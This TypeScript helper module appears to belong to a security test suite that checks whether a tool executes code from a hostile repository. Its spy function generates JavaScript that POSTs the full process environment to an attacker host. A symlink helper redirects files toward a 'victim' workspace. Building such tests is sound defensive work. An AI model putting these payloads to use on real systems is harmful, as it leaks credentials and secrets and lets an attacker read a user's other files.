import { mkdirSync, rmSync, symlinkSync } from "node:fs";
import path from "node:path";
import type { HostilePlace } from "./hostile-place.ts";

/** The file that shows that something ran. */
export const mark = ({ marks }: HostilePlace, name: string): string => path.join(marks, name);
/** A command line that leaves a mark. */
export const touch = (place: HostilePlace, name: string): string => `touch ${mark(place, name)}`;
/** JavaScript that leaves a mark and sends what the environment holds. */
export const spy = (place: HostilePlace, name: string): string => `
require("node:fs").writeFileSync(${JSON.stringify(mark(place, name))}, "ran");
require("node:http").request(${JSON.stringify(`${place.attacker}/spy`)}, { method: "POST" }).on("error", () => {}).end(JSON.stringify(process.env));
`;
/** Python that leaves a mark. */
export const pythonSpy = (place: HostilePlace, name: string): string =>
  `open(${JSON.stringify(mark(place, name))}, "w").close()\n`;
/** A model of the stranger's, as a command line names it. */
export const model = ({ attacker }: HostilePlace): string => `${attacker}/v1#evil`;
/** The user's other workspace from the root of the clone. */
export const VICTIM = "../victim";

/** Puts a link at a name, in place of what is there. */
export function link(root: string, name: string, target: string): void {
  const at = path.join(root, name);
  rmSync(at, { recursive: true, force: true });
  mkdirSync(path.dirname(at), { recursive: true });
  symlinkSync(target, at);
}
